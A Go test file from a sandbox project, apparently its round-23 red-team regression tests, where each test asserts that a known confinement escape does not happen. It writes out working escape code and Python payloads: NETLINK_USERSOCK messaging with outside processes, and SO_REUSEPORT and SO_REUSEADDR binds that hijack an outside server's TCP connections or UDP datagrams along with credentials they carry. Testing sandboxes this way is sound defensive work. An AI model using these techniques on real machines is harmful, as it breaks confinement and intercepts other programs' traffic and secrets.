package confine

// Escapes found in round 23 of red-teaming confine (the connect guard with
// Network, and the answers to round 22b): each test asserts that the
// escape does not happen, and fails until it is fixed.

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

// escape23Env makes the test binary, run confined, do one thing of this
// file's (see init) instead of running the tests.
const escape23Env = "CONFINE_ESCAPE23"

// init runs the confined half of the tests below.
func init() {
	how, ok := os.LookupEnv(escape23Env)
	if !ok {
		return
	}
	var err error
	switch how {
	case "netlink-usersock":
		// os.Args[1]: the port ID an outside program bound on
		// NETLINK_USERSOCK. Send it a message and wait for its answer.
		err = netlinkUsersockPing(os.Args[1])
	case "reuseport":
		// os.Args[1]: the loopback address an outside server listens on
		// with SO_REUSEPORT; os.Args[2]: the file to create once
		// listening there too.
		err = reuseportListen(os.Args[1], os.Args[2])
	case "udp-reuseaddr":
		// os.Args[1]: the loopback address an outside UDP server is
		// bound to with SO_REUSEADDR; os.Args[2]: the file to create
		// once bound there too.
		err = udpReuseaddrListen(os.Args[1], os.Args[2])
	default:
		err = fmt.Errorf("unknown %s %q", escape23Env, how)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "escape23 %s: refused: %v\n", how, err)
		os.Exit(3)
	}
	os.Exit(0)
}

// netlinkUsersockPing sends "ping" to the NETLINK_USERSOCK port port and
// prints what comes back.
func netlinkUsersockPing(port string) error {
	dst, err := strconv.ParseUint(port, 10, 32)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_USERSOCK)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return fmt.Errorf("bind: %w", err)
	}
	if err := unix.Sendto(fd, []byte("ping from the sandbox"), 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK, Pid: uint32(dst)}); err != nil {
		return fmt.Errorf("sendto: %w", err)
	}
	tv := unix.Timeval{Sec: 3}
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	b := make([]byte, 256)
	n, _, err := unix.Recvfrom(fd, b, 0)
	if err != nil {
		return fmt.Errorf("recvfrom: %w", err)
	}
	fmt.Printf("REACHED: the outside program answered %q\n", b[:n])
	return nil
}

// TestEscape23NetlinkUsersockWithNetwork: with Network the command shares
// the machine's network namespace, and NETLINK_USERSOCK, whose port IDs are
// the namespace's (as abstract UNIX names are), lets any unprivileged
// process send to any other's port (the kernel sets NL_CFG_F_NONROOT_SEND
// for it) and take the answers. Landlock scopes the command's abstract
// UNIX connects so that it reaches no outside program's; nothing scopes
// this: a confined command talked both ways with an outside program bound
// on a NETLINK_USERSOCK port, as root and unprivileged.
//
// Payload (run with sandboxauth run --net):
//
//	python3 -c 'import socket; s=socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,2); s.bind((0,0)); s.sendto(b"hi",(4242,0)); print(s.recvfrom(100))'
//
// with, outside: python3 -c 'import socket; s=socket.socket(16,3,2); s.bind((4242,0)); d,a=s.recvfrom(100); s.sendto(b"answer",a)'
func TestEscape23NetlinkUsersockWithNetwork(t *testing.T) {
	sb, _, p := dirs(t)
	p.Network = true
	// The outside program: a NETLINK_USERSOCK socket on a port of its own
	// choosing, answering each message.
	srv, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_USERSOCK)
	require.NoError(t, err)
	defer unix.Close(srv)
	port := uint32(0x23000000 | os.Getpid()&0xffffff)
	require.NoError(t, unix.Bind(srv, &unix.SockaddrNetlink{Family: unix.AF_NETLINK, Pid: port}))
	tv := unix.Timeval{Sec: 10}
	require.NoError(t, unix.SetsockoptTimeval(srv, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv))
	got := make(chan string, 1)
	go func() {
		b := make([]byte, 256)
		n, from, err := unix.Recvfrom(srv, b, 0)
		if err != nil {
			got <- ""
			return
		}
		got <- string(b[:n])
		_ = unix.Sendto(srv, []byte("a secret of the outside program"), 0, from)
	}()

	cmd := exec.Command(testBinary(t), strconv.FormatUint(uint64(port), 10))
	cmd.Dir = sb
	cmd.Env = append(os.Environ(), escape23Env+"=netlink-usersock")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	_ = Run(cmd, p)
	var received string
	select {
	case received = <-got:
	case <-time.After(12 * time.Second):
	}
	assert.Empty(t, received, "an outside program's NETLINK_USERSOCK port received the command's message: %s", out.String())
	assert.NotContains(t, out.String(), "REACHED", "the command talked with an outside program over NETLINK_USERSOCK")
}

// reuseportControl sets SO_REUSEPORT on a socket before it is bound.
func reuseportControl(_, _ string, c syscall.RawConn) error {
	var serr error
	if err := c.Control(func(fd uintptr) {
		serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEPORT, 1)
	}); err != nil {
		return err
	}
	return serr
}

// reuseportListen listens on addr with SO_REUSEPORT, creates ready, and
// prints what each connection it accepts sends, for 3 seconds.
func reuseportListen(addr, ready string) error {
	lc := net.ListenConfig{Control: reuseportControl}
	l, err := lc.Listen(context.Background(), "tcp", addr)
	if err != nil {
		return err
	}
	defer l.Close()
	if err := os.WriteFile(ready, nil, 0o644); err != nil {
		return err
	}
	_ = l.(*net.TCPListener).SetDeadline(time.Now().Add(3 * time.Second))
	for {
		c, err := l.Accept()
		if err != nil {
			return nil
		}
		b, _ := io.ReadAll(io.LimitReader(c, 100))
		fmt.Printf("HIJACKED a connection to the outside server: %q\n", b)
		c.Close()
	}
}

// TestEscape23ReuseportTakesOverOutsideServer: with Network the command
// binds the loopback, which is by design; but SO_REUSEPORT lets it bind
// the very address an outside server of the same user (the kernel
// compares the sockets' owners, and the command runs as the user) listens
// on with SO_REUSEPORT, and the kernel then hands it about half of the
// connections meant for that server: outside clients (the user's
// browser, an agent talking to a local service) send it their requests
// and credentials and take its answers. Unlike an abstract name the
// command binds (documented: it only catches a name no one holds), this
// takes over a running service. With SO_ATTACH_REUSEPORT_CBPF (a
// one-instruction classic BPF program, "ret #1", attached by the command
// to its socket, which steers the whole group) it took all 20 of 20
// connections and the outside server none. As root and unprivileged.
//
// Payload (run with sandboxauth run --net; an outside server listens on
// 127.0.0.1:45678 with SO_REUSEPORT):
//
//	python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEPORT,1); s.bind(("127.0.0.1",45678)); s.listen(); print(s.accept()[0].recv(100))'
func TestEscape23ReuseportTakesOverOutsideServer(t *testing.T) {
	sb, _, p := dirs(t)
	p.Network = true
	lc := net.ListenConfig{Control: reuseportControl}
	l, err := lc.Listen(context.Background(), "tcp", "127.0.0.1:0")
	require.NoError(t, err)
	defer l.Close()
	addr := l.Addr().String()
	outside := make(chan int, 1)
	go func() {
		n := 0
		for {
			c, err := l.Accept()
			if err != nil {
				outside <- n
				return
			}
			n++
			c.Close()
		}
	}()
	ready := filepath.Join(sb, "ready")
	cmd := exec.Command(testBinary(t), addr, ready)
	cmd.Dir = sb
	cmd.Env = append(os.Environ(), escape23Env+"=reuseport")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	require.NoError(t, Start(cmd, p))
	for i := 0; i < 100; i++ {
		if _, err := os.Stat(ready); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	// The user's clients, outside, connecting to their server.
	for i := 0; i < 20; i++ {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err == nil {
			_, _ = c.Write([]byte("password=hunter2"))
			c.Close()
		}
	}
	_ = cmd.Wait()
	assert.NotContains(t, out.String(), "HIJACKED", "the command took connections meant for an outside server")
}

// reuseaddrControl sets SO_REUSEADDR on a socket before it is bound.
func reuseaddrControl(_, _ string, c syscall.RawConn) error {
	var serr error
	if err := c.Control(func(fd uintptr) {
		serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
	}); err != nil {
		return err
	}
	return serr
}

// udpReuseaddrListen binds addr (UDP) with SO_REUSEADDR, creates ready,
// and prints each datagram it receives, for 3 seconds.
func udpReuseaddrListen(addr, ready string) error {
	lc := net.ListenConfig{Control: reuseaddrControl}
	c, err := lc.ListenPacket(context.Background(), "udp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := os.WriteFile(ready, nil, 0o644); err != nil {
		return err
	}
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	b := make([]byte, 100)
	for {
		n, _, err := c.ReadFrom(b)
		if err != nil {
			return nil
		}
		fmt.Printf("HIJACKED a datagram sent to the outside server: %q\n", b[:n])
	}
}

// TestEscape23UDPReuseaddrTakesOverOutsideServer: with Network, a UDP
// server of the machine bound with SO_REUSEADDR (common for UDP: DNS
// forwarders, discovery, Python's reuse_address) shares its address with
// any socket that sets it too, whoever owns it (the kernel checks no
// owner for UDP's SO_REUSEADDR), and the socket bound last gets every
// unicast datagram: the command took all the datagrams outside clients
// sent to the outside server, which got none. As root and unprivileged.
//
// Payload (run with sandboxauth run --net; an outside server is bound to
// 127.0.0.1:45680 with SO_REUSEADDR):
//
//	python3 -c 'import socket; s=socket.socket(2,2); s.setsockopt(1,2,1); s.bind(("127.0.0.1",45680)); print(s.recvfrom(100))'
func TestEscape23UDPReuseaddrTakesOverOutsideServer(t *testing.T) {
	sb, _, p := dirs(t)
	p.Network = true
	lc := net.ListenConfig{Control: reuseaddrControl}
	srv, err := lc.ListenPacket(context.Background(), "udp", "127.0.0.1:0")
	require.NoError(t, err)
	defer srv.Close()
	addr := srv.LocalAddr().String()
	ready := filepath.Join(sb, "ready")
	cmd := exec.Command(testBinary(t), addr, ready)
	cmd.Dir = sb
	cmd.Env = append(os.Environ(), escape23Env+"=udp-reuseaddr")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	require.NoError(t, Start(cmd, p))
	for i := 0; i < 100; i++ {
		if _, err := os.Stat(ready); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	// The user's clients, outside, sending to their server.
	c, err := net.Dial("udp", addr)
	require.NoError(t, err)
	for i := 0; i < 10; i++ {
		_, _ = c.Write([]byte("query with a token"))
	}
	c.Close()
	_ = cmd.Wait()
	assert.NotContains(t, out.String(), "HIJACKED", "the command took datagrams sent to an outside server")
}
